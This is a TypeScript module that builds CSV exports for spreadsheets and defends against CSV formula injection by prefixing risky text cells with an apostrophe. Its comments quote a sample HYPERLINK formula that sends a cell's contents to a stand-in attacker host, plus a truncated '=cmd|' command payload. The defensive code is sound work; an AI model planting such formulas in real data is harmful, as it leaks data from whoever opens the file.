/**
 * CSV for spreadsheets (the accountant's exports): RFC 4180 records, UTF-8 with a byte-order mark,
 * and cells that cannot turn into formulas. Pure; the streaming is lib/server/admin/export.ts.
 *
 * Formula injection (OWASP "CSV Injection", ASVS 1.2.10): Excel, LibreOffice Calc and Google
 * Sheets read a cell that begins with = + - @ (or a tab or carriage return) as a formula, so a
 * client who types `=HYPERLINK("https://evil.example/?"&B2,"Click")` as their name would run it on
 * the magician's (or the accountant's) machine. RFC 4180 quoting does not help: quotes are CSV
 * syntax that the spreadsheet strips *before* it decides whether the cell is a formula, so
 * `"=1+1"` still opens as 2. The fix is a leading apostrophe, the spreadsheets' own "this is text"
 * mark, on every text cell that would otherwise start a formula.
 *
 * Only text is neutralised. Amounts, counts and dates are produced by this code, not typed by a
 * visitor, so they are written bare and stay numbers and dates the accountant can add up and sort.
 * A value given to a number or date column that does not have that shape is written as text (and
 * neutralised), so nothing reaches the file unchecked through a mislabelled column.
 */
import { penceToDecimalString } from "./money";

/** U+FEFF first, so Excel reads the file as UTF-8 (without it, £ and accents come out as Â£ and Ã©). */
export const CSV_BOM = "\uFEFF";
/** RFC 4180 §2.1: records end with CRLF, the last one included. */
export const CSV_EOL = "\r\n";

/**
 * How a column is written:
 * - text: any string; neutralised against formulas, then quoted as needed;
 * - integer: a whole number (or digit string, e.g. a duration stored as text), written bare;
 * - money: integer pence, written as pounds with two decimals (13750 -> 137.50);
 * - date: yyyy-MM-dd or an ISO instant (2026-03-01T10:00:00.000Z), written bare.
 */
export type CsvKind = "text" | "integer" | "money" | "date";
export type CsvValue = string | number | null | undefined;

export interface CsvColumn<Row> {
  header: string;
  kind: CsvKind;
  value: (row: Row) => CsvValue;
}

/** A tab, carriage return or NUL first is dangerous by itself (ASVS lists them with the four signs). */
const DANGEROUS_FIRST = /^[\t\r\0]/;
/**
 * = + - @ first, or after leading whitespace: Calc's "Trim spaces" import option (and people's own
 * TRIM) remove the spaces and leave the formula, so "  =cmd|..." is neutralised as well.
 */
const DANGEROUS_SIGN = /^\s*[=+\-@]/;
const NEEDS_QUOTES = /[",\r\n]/;
const INTEGER = /^-?\d{1,15}$/;
const DATE_OR_INSTANT = /^\d{4}-\d{2}-\d{2}(?:T\d{2}:\d{2}(?::\d{2}(?:\.\d{1,3})?)?(?:Z|[+-]\d{2}:\d{2})?)?$/;

/** Would a spreadsheet read this text as a formula? */
export function isFormulaLike(value: string): boolean {
  return DANGEROUS_FIRST.test(value) || DANGEROUS_SIGN.test(value);
}

/**
 * Prefixes a formula-looking text with an apostrophe. This includes phone numbers such as
 * `+44 7700 900123`: quoting would not stop a spreadsheet evaluating them (the quotes are gone by
 * then), so `+44 7700 900123` is parsed as a formula (its spaces are Excel's intersection operator)
 * and `+447700900123` becomes the number 447700900123, shown as 4.48E+11. Digits, spaces, brackets
 * and dashes cannot call a function, so a phone number is no injection, but it would still be
 * evaluated and the number lost; with the apostrophe every digit survives. The apostrophe is the
 * spreadsheets' own text mark (some programs hide it, plain-text readers show it).
 */
export function neutralise(value: string): string {
  return isFormulaLike(value) ? `'${value}` : value;
}

/** RFC 4180 §2.6–2.7: quoted when it holds a comma, a quote, CR or LF; quotes inside are doubled. */
export function escapeField(value: string): string {
  return NEEDS_QUOTES.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}

function textCell(value: CsvValue): string {
  return escapeField(neutralise(String(value)));
}

/** One cell as it appears in the file (quoted when needed). null and undefined are empty cells. */
export function formatCell(value: CsvValue, kind: CsvKind): string {
  if (value === null || value === undefined || value === "") return "";
  switch (kind) {
    case "integer":
      if (typeof value === "number" && Number.isSafeInteger(value)) return String(value);
      if (typeof value === "string" && INTEGER.test(value)) return value;
      return textCell(value);
    case "money":
      // Pence are integers; anything else is not money this code computed.
      if (typeof value === "number" && Number.isSafeInteger(value)) return penceToDecimalString(value);
      return textCell(value);
    case "date":
      if (typeof value === "string" && DATE_OR_INSTANT.test(value)) return value;
      return textCell(value);
    default:
      return textCell(value);
  }
}

/** One record: cells already formatted (formatCell), joined with commas and ended with CRLF. */
export function csvRow(cells: readonly string[]): string {
  return cells.join(",") + CSV_EOL;
}

/** The header record (headers are text like any other: escaped and neutralised). */
export function csvHeader<Row>(columns: readonly CsvColumn<Row>[]): string {
  return csvRow(columns.map((c) => textCell(c.header)));
}

/** A row of data as a record, each value written by its column's kind. */
export function csvRecord<Row>(columns: readonly CsvColumn<Row>[], row: Row): string {
  return csvRow(columns.map((c) => formatCell(c.value(row), c.kind)));
}

/** A whole small CSV (BOM, header, records) — for tests and small exports; big ones stream the same pieces. */
export function toCsv<Row>(columns: readonly CsvColumn<Row>[], rows: readonly Row[]): string {
  return CSV_BOM + csvHeader(columns) + rows.map((row) => csvRecord(columns, row)).join("");
}
